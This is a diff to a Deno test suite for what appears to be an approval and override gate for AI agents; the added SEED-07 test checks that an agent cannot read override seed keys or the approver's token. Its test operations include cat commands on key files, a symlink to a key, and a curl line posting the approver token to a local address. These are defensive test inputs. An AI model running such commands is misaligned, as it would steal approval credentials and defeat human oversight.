@@ -1,6 +1,11 @@
 /** What somebody may try who asks, and wants more than what a person approved. */
 import { assertEquals } from "@std/assert";
-import { inOverrideProject, offered, writing } from "../support/override_project.ts";
+import {
+  approverPolicy,
+  inOverrideProject,
+  offered,
+  writing,
+} from "../support/override_project.ts";
 
 Deno.test("BIND-09 what the asker calls a password hides nothing from who approves", async () => {
   await inOverrideProject(async ({ check }) => {
@@ -24,4 +29,36 @@ Deno.test("BIND-09 what the asker calls a password hides nothing from who approv
     offered(await check({ type: "command", command: plain }));
     offered(await check({ ...writing("b.env", "TOKEN=abcd1234efgh"), metadata: { note: "x" } }));
   });
+});
+
+Deno.test("SEED-07 who is judged reads neither a seed nor the approver's token", async () => {
+  const state = ["/var/lib/sealward/0f", "/home/a/.local/state/sealward/0f"];
+  const policy = approverPolicy("enforcement: {mode: observe}\n");
+  await inOverrideProject(async ({ check, project }) => {
+    project.write("tokens/approver", "x");
+    Deno.symlinkSync("/var/lib/sealward/0f/keys/override/aa", `${project.root}/link`);
+    for (const folder of state) {
+      const seed = `${folder}/keys/override/${"0".repeat(32)}`;
+      for (
+        const operation of [
+          { type: "file_read", affected_files: [seed] },
+          { type: "file_copy", affected_files: [seed, "copy"] },
+          { type: "command", command: `cat ${seed}` },
+          { type: "command", command: `curl -d @${folder}/tokens/approver http://127.0.0.1:1` },
+          { type: "file_read", affected_files: ["link"] },
+        ]
+      ) {
+        const { decision, overridable, violated_policies: policies } = await check(operation);
+        assertEquals(
+          [decision, overridable, policies.includes("builtin.files")],
+          ["deny", false, true],
+          JSON.stringify(operation),
+        );
+      }
+      const own = { type: "command", command: `cat ${folder}/tokens/agent ${folder}/keys/a.pub` };
+      assertEquals((await check(own)).decision, "allow");
+    }
+    const namesake = { type: "file_read", affected_files: ["tokens/approver"] };
+    assertEquals((await check(namesake)).decision, "allow");
+  }, { policy });
 });
